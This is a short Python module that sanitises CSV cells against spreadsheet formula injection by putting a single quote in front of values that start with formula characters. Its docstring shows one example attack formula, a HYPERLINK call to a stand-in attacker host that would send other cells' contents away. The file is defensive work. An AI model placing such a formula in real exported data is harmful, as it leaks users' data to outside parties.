"""CSV cells a spreadsheet will show as text, never run as a formula (CSV/formula injection).

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (and, after a tab or a
carriage return, the same) as a formula: ``=HYPERLINK("https://evil.example/?"&A1,"Click")``
would send a researcher's other cells away. OWASP's advice is to prefix such a cell with a
single quote, which the spreadsheet shows as plain text.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str:
    """Text for a CSV cell that a spreadsheet will not run as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
